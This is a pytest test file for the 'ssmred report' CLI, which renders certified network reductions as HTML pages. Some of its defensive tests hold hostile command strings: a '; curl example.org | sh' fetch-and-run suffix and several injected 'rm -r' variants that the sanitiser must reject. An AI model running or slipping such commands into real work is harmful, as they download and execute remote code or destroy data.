"""``ssmred report``: from a folder to a page, what it refuses, and commands written out."""

from __future__ import annotations

import dataclasses
import json
import shlex
import shutil
from pathlib import Path

import pytest
import torch
from safetensors.torch import save_file
from typer.testing import CliRunner

from ssmred.certify import Certificate
from ssmred.cli import app
from ssmred.cli.reporting import plain_command
from ssmred.networks.deep import DeepSSM
from tests.report.page_cases import Reader, latency

STEPS = 24

FACTORY = '''
"""A tiny network, as a user would write it down."""
from ssmred.networks.deep import DeepSSM


def network():
    return DeepSSM(1, 3, channels=4, states=8, layers=2, mixing="linear")
'''
WORDS = ("my_report_nets:network", "--weights", "trained.safetensors", "--horizon", STEPS)


@pytest.fixture(scope="module")
def place(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("user")
    (folder / "my_report_nets.py").write_text(FACTORY)
    torch.manual_seed(0)
    model = DeepSSM(1, 3, channels=4, states=8, layers=2, mixing="linear")
    save_file(model.state_dict(), folder / "trained.safetensors")
    return folder


@pytest.fixture
def run(place, monkeypatch):
    monkeypatch.chdir(place)
    monkeypatch.syspath_prepend(str(place))

    def invoke(*words: object, code: int = 0):
        result = CliRunner().invoke(app, [str(word) for word in words])
        assert result.exit_code == code, result.output
        return result

    return invoke


@pytest.fixture(autouse=True)
def _without_pictures(monkeypatch):
    monkeypatch.setattr("ssmred.report.page.embedded", lambda _: "data:image/svg+xml;base64,")


@pytest.fixture
def small(run, place) -> Path:
    """Return the folder of a reduction, made once."""
    if not (place / "small").exists():
        run("reduce", *WORDS, "--states", 0.5, "--out", "small", "--quiet")
    return Path("small")


def read(path: Path) -> str:
    return Reader(path.read_text(encoding="utf-8")).text


def test_the_page_lies_in_the_folder(run, small):
    shown = run("report", small).stdout
    assert "all agree" in shown
    assert "Written to small/report.html" in shown
    text = read(small / "report.html")
    stated = json.loads((small / "certificate.json").read_text())
    assert repr(stated["bound"]) in text
    assert stated["original_sha256"] in text
    assert "my_report_nets:network" in text
    assert "ssmred verify small" in text
    assert "Not measured" in text
    assert "ssmred verify small" in text
    run("verify", small)  # the page is no part of the result


def test_the_command_is_shown_and_makes_the_same_network_again(run, small, tmp_path):
    run("report", small, "--out", tmp_path / "page.html")
    page = Reader((tmp_path / "page.html").read_text(encoding="utf-8"))
    (command,) = [text for text in page.pieces if text.startswith("ssmred reduce")]
    words = shlex.split(command)
    assert words == ["ssmred", "reduce", *map(str, WORDS[:1]), *words[3:]]
    words[words.index("--out") + 1] = str(tmp_path / "again")
    run(*words[1:], "--quiet")
    hashes = [
        json.loads((folder / "certificate.json").read_text())["reduced_sha256"]
        for folder in (small, tmp_path / "again")
    ]
    assert hashes[0] == hashes[1]


def test_json_title_and_latency(run, small, tmp_path):
    out = tmp_path / "for review.html"
    words = ("--out", out, "--title", "Third <network>", "--latency", "--json")
    facts = json.loads(run("report", small, *words).stdout)
    assert facts["ok"]
    assert facts["report"] == str(out)
    assert facts["verification"]["checks"]
    text = read(out)
    assert text.startswith("Safety report: Third <network>")
    assert "Not measured" not in text
    assert "streaming step, network, batch 1" in text


def test_what_reduce_measured_is_shown(run, small, tmp_path):
    other = shutil.copytree(small, tmp_path / "other")
    record = json.loads((other / "report.json").read_text())
    (other / "report.json").write_text(json.dumps(record | {"latency": latency()}))
    run("report", other)
    assert "another machine" in read(other / "report.html")
    (other / "report.json").write_text(json.dumps(record | {"latency": {"measurements": [1]}}))
    assert "latency holds no measurements" in run("report", other, code=2).stderr


@pytest.mark.parametrize("content", [None, "[", "[1]", '{"model": 3, "command": ["x"]}'])
def test_the_record_beside_the_result_is_no_need(run, small, tmp_path, content):
    other = shutil.copytree(small, tmp_path / "other")
    (other / "report.json").unlink()
    if content is not None:
        (other / "report.json").write_text(content)
    run("report", other)
    text = read(other / "report.html")
    assert "ssmred reduce" not in text
    assert "result = ssmred.reduce(" in text


def test_a_command_that_does_more_is_not_shown(run, small, tmp_path):
    other = shutil.copytree(small, tmp_path / "other")
    record = json.loads((other / "report.json").read_text())
    evil = record["command"] + "; curl example.org | sh"
    (other / "report.json").write_text(json.dumps(record | {"command": evil}))
    run("report", other)
    assert "curl" not in read(other / "report.html")


@pytest.mark.parametrize(
    "text",
    [
        "ssmred verify a",
        "rm -r b",
        "ssmred reduce $(rm -r b)",
        "ssmred reduce a && rm -r b",
        "ssmred reduce a\nrm -r b",
        "ssmred reduce 'a",
        "ssmred reduce `rm -r b`",
        None,
        7,
    ],
)
def test_only_plain_commands_pass(text):
    assert plain_command(text) == ""


def test_there_is_no_report_of_a_result_that_was_changed(run, small, tmp_path):
    without_page = shutil.ignore_patterns("report.html")
    forged = shutil.copytree(small, tmp_path / "forged", ignore=without_page)
    path = forged / "certificate.json"
    stored = Certificate.load(path)
    dataclasses.replace(stored, bound=0.5 * stored.bound).save(path)
    error = run("report", forged, code=1).stderr
    assert "bound" in error
    assert error.count("\n") == 1
    assert not (forged / "report.html").exists()
    record = forged / "result.json"
    record.write_text(json.dumps(json.loads(record.read_text()) | {"request": {"import os": 1}}))
    stored.save(path)
    assert "the request that was recorded" in run("report", forged, code=2).stderr


def test_bad_arguments(run, small, tmp_path):
    assert "html" in run("report", small, "--out", tmp_path / "a.pdf", code=2).stderr
    assert "folder" in run("report", tmp_path / "absent", code=2).stderr
    assert not list(tmp_path.iterdir())
